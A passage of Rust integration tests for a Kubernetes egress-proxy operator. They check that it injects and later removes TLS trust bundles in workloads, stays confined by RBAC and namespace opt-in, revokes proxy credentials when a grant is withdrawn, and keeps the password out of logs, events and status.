    std::fs::create_dir_all(&dir).expect("tmp dir");
    let op = Running::start(&env, &dir);

    let java = wait_reason(&env, "team-a", "tls-java", "Reconciled").await;
    let bundle = java
        .status
        .and_then(|s| s.trust)
        .expect("status.trust")
        .bundle;
    let jvm = env.deployment("team-a", "jvm-tls").await;
    let seen = trust_seen(common::template(&jvm));
    assert_eq!(seen.config_map.as_deref(), Some("egress-proxy-tls-java"));
    assert_eq!(seen.mounted, ["app", "init"]);
    assert_eq!(seen.bundle.as_deref(), Some(bundle.as_str()));
    for var in [
        "SSL_CERT_FILE",
        "CURL_CA_BUNDLE",
        "REQUESTS_CA_BUNDLE",
        "NODE_EXTRA_CA_CERTS",
        "WGETRC",
    ] {
        for c in ["app", "init"] {
            let want = format!("{c}/{var}");
            assert!(seen.vars.contains(&want), "{want} not in {seen:?}");
        }
    }
    let options = common::env(common::container(&jvm, "app"), "JAVA_TOOL_OPTIONS")
        .and_then(|e| e.value.clone())
        .expect("JAVA_TOOL_OPTIONS");
    assert!(
        options.starts_with("-Xmx256m -Degressproxy.managed="),
        "{options}"
    );
    assert!(
        options.ends_with(
            " -Djavax.net.ssl.trustStore=/etc/egress-proxy/trust/truststore.p12 \
             -Djavax.net.ssl.trustStoreType=PKCS12"
        ),
        "{options}"
    );
    let cms = Api::<ConfigMap>::namespaced(env.client.clone(), "team-a");
    let managed = cms
        .get("egress-proxy-tls-java")
        .await
        .expect("managed ConfigMap");
    let pem = managed
        .data
        .unwrap_or_default()
        .remove("ca-bundle.crt")
        .unwrap_or_default();
    assert!(
        pem.starts_with(&corp_ca),
        "the source CA is not first in the bundle"
    );
    assert!(
        managed
            .binary_data
            .unwrap_or_default()
            .contains_key("truststore.p12")
    );

    wait_reason(&env, "team-a", "tls-go", "Reconciled").await;
    let go = trust_seen(common::template(&env.deployment("team-a", "go-tls").await));
    assert_eq!(go.config_map.as_deref(), Some("egress-proxy-tls-go"));
    assert_eq!(go.vars, ["app/SSL_CERT_FILE", "app/SSL_CERT_DIR"]);
    let report = trust_seen(&cron_template(&env, "go-report").await);
    assert_eq!(report.mounted, ["report"]);
    let go_cm = cms
        .get("egress-proxy-tls-go")
        .await
        .expect("managed ConfigMap");
    let go_data = go_cm.data.unwrap_or_default();
    assert_eq!(
        go_data.get("ca-bundle.crt"),
        Some(&team_ca),
        "Replace: the team's CA only"
    );

    // The probe Job of a java policy with trust: created and its Pod read.
    eventually("the trust probe's Pod read", || async {
        let p = env.policy("team-a", "tls-probe").await;
        let c = p
            .status?
            .conditions
            .into_iter()
            .find(|c| c.type_ == "Verified")?;
        c.message.contains("ErrImagePull").then_some(())
    })
    .await;
    let jobs = Api::<k8s_openapi::api::batch::v1::Job>::namespaced(env.client.clone(), "team-a")
        .list(&Default::default())
        .await
        .expect("jobs");
    let probe = jobs
        .items
        .iter()
        .find(|j| {
            j.metadata
                .labels
                .as_ref()
                .and_then(|l| l.get("egressproxy.io/policy"))
                .map(String::as_str)
                == Some("tls-probe")
        })
        .expect("the probe Job");
    let pod = probe.spec.as_ref().map(|s| &s.template).expect("template");
    let spec = pod.spec.as_ref().expect("pod spec");
    assert!(spec.volumes.is_none(), "the probe mounts nothing");
    let vars = spec.containers[0].env.clone().unwrap_or_default();
    let value = |n: &str| {
        vars.iter()
            .find(|e| e.name == n)
            .and_then(|e| e.value.clone())
    };
    let pem = value("EGRESS_PROXY_PROBE_TRUST").expect("the CAs under test");
    assert_eq!(
        pem.matches("BEGIN CERTIFICATE").count(),
        1,
        "the policy's CA only"
    );
    assert_eq!(
        value("EGRESS_PROXY_PROBE_TRUST_ROOTS").as_deref(),
        Some("keep")
    );

    // The policies go: everything of trust goes, the workload's own volume and options stay.
    let policies = Api::<egress_proxy_operator::api::EgressProxyPolicy>::namespaced(
        env.client.clone(),
        "team-a",
    );
    for name in ["tls-java", "tls-go"] {
        policies
            .delete(name, &Default::default())
            .await
            .expect("delete policy");
    }
    eventually("the trust taken out again", || async {
        let jvm = env.deployment("team-a", "jvm-tls").await;
        let go = env.deployment("team-a", "go-tls").await;
        let report = cron_template(&env, "go-report").await;
        let none = [common::template(&jvm), common::template(&go), &report]
            .iter()
            .all(|t| trust_seen(t) == TrustSeen::default());
        let options = common::env(common::container(&jvm, "app"), "JAVA_TOOL_OPTIONS")
            .and_then(|e| e.value.clone());
        (none && options.as_deref() == Some("-Xmx256m")).then_some(())
    })
    .await;
    let jvm = env.deployment("team-a", "jvm-tls").await;
    let spec = common::template(&jvm).spec.as_ref().expect("pod spec");
    let own = serde_json::to_value(&spec.volumes).expect("json");
    assert_eq!(own, json!([{"name": "data", "emptyDir": {}}]));
    let app = common::container(&jvm, "app");
    assert_eq!(
        serde_json::to_value(&app.volume_mounts).expect("json"),
        json!([{"name": "data", "mountPath": "/data"}])
    );
    let logs = op.stop();
    assert!(!logs.contains("denied request"), "{logs}");
    assert!(
        !logs.contains("BEGIN CERTIFICATE"),
        "a certificate in the logs"
    );
    let _ = std::fs::remove_dir_all(&dir);
}

async fn managed_keys(env: &Env, ns: &str) -> Option<Vec<String>> {
    let s = Api::<Secret>::namespaced(env.client.clone(), ns)
        .get_opt("egress-proxy-corp")
        .await
        .expect("get");
    s.map(|s| s.data.unwrap_or_default().into_keys().collect())
}

async fn released(env: &Env, ns: &str) -> Option<()> {
    hash(&env.deployment(ns, "api").await)
        .is_none()
        .then_some(())
}

/// Removes (or restores) team-a from the shared Secret's grant annotation.
async fn grant_to(env: &Env, namespaces: &str) {
    let patch =
        json!({"metadata": {"annotations": {"egressproxy.io/allowed-namespaces": namespaces}}});
    Api::<Secret>::namespaced(env.client.clone(), "platform")
        .patch("corp-proxy", &PatchParams::default(), &Patch::Merge(patch))
        .await
        .expect("patch grant");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_shipped_rbac_confines_the_operator_and_withdrawals_take_the_credential_away() {
    let env = cluster().await;
    let dir = std::env::temp_dir().join(format!("epo-tenancy-{}", std::process::id()));
    std::fs::create_dir_all(&dir).expect("tmp dir");
    let own = env.deployment("team-n", "own").await.spec;
    let teams_own = env.deployment("team-a", "teams-own").await.spec;
    let op = Running::start(&env, &dir);

    // team-a opted in and was granted the Secret; team-b is labelled but bound nothing;
    // team-n did not opt in, and its own objects are not touched.
    wait_reason(&env, "team-a", "corp", "Reconciled").await;
    assert!(hash(&env.deployment("team-a", "api").await).is_some());
    wait_reason(&env, "team-b", "corp", "NamespaceNotAuthorized").await;
    assert_eq!(managed_keys(&env, "team-b").await, None);
    assert_eq!(hash(&env.deployment("team-b", "api").await), None);
    wait_reason(&env, "team-n", "corp", "NamespaceNotEnabled").await;
    let now = env.deployment("team-n", "own").await;
    assert_eq!(now.spec, own, "team-n's Deployment was changed");
    assert_eq!(hash(&now).as_deref(), Some("teams-own"));
    assert_eq!(
        managed_keys(&env, "team-n").await,
        Some(vec!["HTTPS_PROXY".into()])
    );

    // The owner takes team-a out of the annotation: the credential goes at once.
    grant_to(&env, "team-b").await;
    wait_reason(&env, "team-a", "corp", "SecretNotAvailable").await;
    let keys = managed_keys(&env, "team-a").await.expect("managed Secret");
    assert!(!keys.iter().any(|k| k.ends_with("_PROXY")), "{keys:?}");
    eventually("team-a's workload released", || released(&env, "team-a")).await;

    // Granted again, then the owner deletes the Role: the next watch is refused.
    grant_to(&env, "team-a, team-b").await;
    wait_reason(&env, "team-a", "corp", "Reconciled").await;
    Api::<k8s_openapi::api::rbac::v1::Role>::namespaced(env.client.clone(), "platform")
        .delete("egress-proxy-operator-read-corp-proxy", &Default::default())
        .await
        .expect("delete the grant Role");
    let p = wait_reason(&env, "team-a", "corp", "SecretNotAvailable").await;
    let message = common::ready_message(&p);
    assert!(
        message.contains("it does not exist, the operator may not read it"),
        "{message}"
    );
    let keys = managed_keys(&env, "team-a").await.expect("managed Secret");
    assert!(!keys.iter().any(|k| k.ends_with("_PROXY")), "{keys:?}");
    eventually("team-a's workload released", || released(&env, "team-a")).await;

    // The namespace's admin opts out (label first): everything the operator added goes.
    let patch = json!({"metadata": {"labels": {"egressproxy.io/enabled": null}}});
    Api::<k8s_openapi::api::core::v1::Namespace>::all(env.client.clone())
        .patch("team-a", &PatchParams::default(), &Patch::Merge(patch))
        .await
        .expect("opt out");
    wait_reason(&env, "team-a", "corp", "NamespaceNotEnabled").await;
    eventually("team-a's managed Secret deleted", || async {
        managed_keys(&env, "team-a").await.is_none().then_some(())
    })
    .await;
    // Through injection, two revocations and the opt-out: never written.
    let now = env.deployment("team-a", "teams-own").await.spec;
    assert_eq!(
        now, teams_own,
        "a workload the operator owns nothing of was changed"
    );

    let logs = op.stop();
    assert!(
        logs.contains("reconciled"),
        "the operator logged nothing:\n{logs}"
    );
    assert!(
        !logs.contains(PASSWORD),
        "the password is in the operator's logs"
    );
    let events = env.client.request_text(
        http::Request::get("/apis/events.k8s.io/v1/events")
            .body(Vec::new())
            .expect("req"),
    );
    let events = events.await.expect("events");
    assert!(events.contains("SecretNotAvailable") && !events.contains(PASSWORD));
    for ns in ["team-a", "team-b", "team-n"] {
        let status = serde_json::to_string(&env.policy(ns, "corp").await.status).expect("json");
        assert!(
            !status.contains(PASSWORD),
            "{ns}: the password is in status"
        );
    }
    let _ = std::fs::remove_dir_all(&dir);
}
